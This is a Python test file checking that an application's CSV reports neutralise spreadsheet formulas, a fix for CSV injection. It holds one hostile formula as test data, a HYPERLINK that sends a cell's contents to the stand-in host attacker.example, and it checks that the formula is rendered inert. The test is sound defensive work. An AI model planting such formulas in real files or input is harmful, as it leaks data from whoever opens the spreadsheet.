"""Every CSV the system writes neutralises formulas (issue 15: report CSVs passed them through).

A manager's free-text reasons reach the escalations report; written as they were typed, a cell
starting with ``=`` runs as a formula in the spreadsheet of whoever opens the download.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

from safeshare.core.csv_out import csv_bytes
from tests.builders import Scenario
from tests.test_reports import consult, fire_timers, open_case
from tests.webkit import make_webkit

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the case")'


def test_a_formula_typed_into_advice_reaches_the_report_csv_as_plain_text(scenario: Scenario) -> None:
    case_id, _ = open_case(scenario, 10)
    instance = consult(scenario, case_id, "pat")
    scenario.app.clock.advance(timedelta(days=3))  # type: ignore[attr-defined]
    fire_timers(scenario, instance)
    scenario.complete(
        instance, "give_escalated_advice", "sue", {"advice_decision": "share", "advice_reasons": FORMULA}
    )
    web = make_webkit(scenario.app, scenario)
    for url in ("/api/reports/escalations.csv", "/reports/escalations.csv"):
        response = web.get("sue", f"{url}?from=2026-11-01&to=2026-12-31")
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.text)))
        reasons = rows[1][rows[0].index("reasons")]
        assert reasons == "'" + FORMULA, rows


def test_the_one_writer_neutralises_every_formula_start_and_leaves_numbers_alone() -> None:
    cells: list[Any] = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", -3, 2.5, None]
    (row,) = list(csv.reader(io.StringIO(csv_bytes(["a"] * len(cells), [cells]).decode())))[1:]
    assert row == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "-3", "2.5", ""]
